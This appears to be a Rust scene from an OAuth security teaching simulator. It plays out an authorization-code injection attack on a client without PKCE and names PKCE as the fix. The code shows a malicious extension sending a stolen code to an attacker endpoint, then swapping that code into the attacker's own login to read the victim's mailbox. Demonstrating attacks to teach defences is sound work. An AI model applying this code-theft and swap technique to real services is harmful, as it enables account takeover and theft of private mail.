//! A stolen code in the attacker's session.

use anyhow::{Context, Result};

use crate::scenes::act::{Act, held, read, refused};
use crate::scenes::record::Party::{App, Attacker, Browser, Mailbox, Server};
use crate::scenes::{Ending, Scene};

pub(super) const SCENE: Scene = Scene {
    id: "code-injection",
    title: "A stolen code, put into another session",
    what: "The attacker holds a code of Ada's that he cannot redeem himself: the robot has a secret. So he starts a login of his \
           own at the robot, and swaps the code in the answer for hers. The robot redeems it for him.",
    why: "Without PKCE nothing ties a code to the session that asked for it. The secret proves that it is the robot, not whose \
          browser it is.",
    stop: "PKCE for all clients, confidential ones too: the robot redeems with the verifier of the attacker's session, and the \
           code was made for the one of Ada's.",
    off: "Confidential client without PKCE",
    on: "PKCE",
    cast: &[
        (Browser, "Ada's browser"),
        (App, "Robot"),
        (Server, "Server"),
        (Mailbox, "Mailbox"),
        (Attacker, "Attacker"),
    ],
    weakness: &[],
    section: "RFC 9700 section 4.5",
    play: |act| Box::pin(play(act)),
};

async fn play(act: &Act) -> Result<Ending> {
    let robot = act.robot(None).await?;
    let callback = format!("{robot}/callback");
    let mallory = act.malicious("mail-robot", Some(&callback)).await?;
    act.say(
        "Ada connects the robot. A bad browser extension sees the address with the code first, tells the attacker, and \
             lets the page hang.",
    );
    let mut ada = act.browser(Browser);
    ada.hold(&callback);
    let page = act.connect(&mut ada, &robot).await?;
    let stopped = act.decide(&mut ada, page, &act.house.ada, "allow").await?;
    ada.post(&format!("{}/collect", mallory.origin()), &[("url", stopped.url.as_str())]).await?;
    let code = mallory.caught("code").context("the extension told no code")?.value;
    let stolen = held("Ada's code", &code, "from a browser extension");
    act.say("The attacker starts a login of his own at the robot, and stops before the answer is delivered.");
    let mut own = act.browser(Attacker);
    own.hold(&callback);
    let page = act.connect(&mut own, &robot).await?;
    let mut answer = act.decide(&mut own, page, &act.house.mallory, "allow").await?.url;
    act.say("He swaps his code for Ada's. The rest of the answer, state included, is his own and right.");
    let pairs: Vec<(String, String)> = answer.query_pairs().into_owned().collect();
    let swapped = pairs.iter().map(|(name, value)| (name, if name == "code" { &code } else { value }));
    answer.query_pairs_mut().clear().extend_pairs(swapped);
    own.hold("");
    let inbox = own.open(answer.as_str()).await?;
    if inbox.url.path() != "/inbox" {
        let why = act.recorder.last_refusal_of_server().or(inbox.problem());
        let why = why.context("the robot neither connected nor said why")?;
        return Ok(refused(format!("The server refused: {why}."), vec![stolen]));
    }
    let Some(token) = inbox.parameter("token") else {
        let verdict = "The robot opened the mailbox in the attacker's session.".to_owned();
        return Ok(Ending { attacker_won: true, verdict, loot: vec![stolen] });
    };
    let mails = mallory.read_mails(&token).await?.unwrap_or_default();
    let loot = vec![stolen, held("Ada's access token", &token, "the robot redeemed her code in his session")];
    Ok(read(&mails, "with that token, from the mailbox", loot))
}
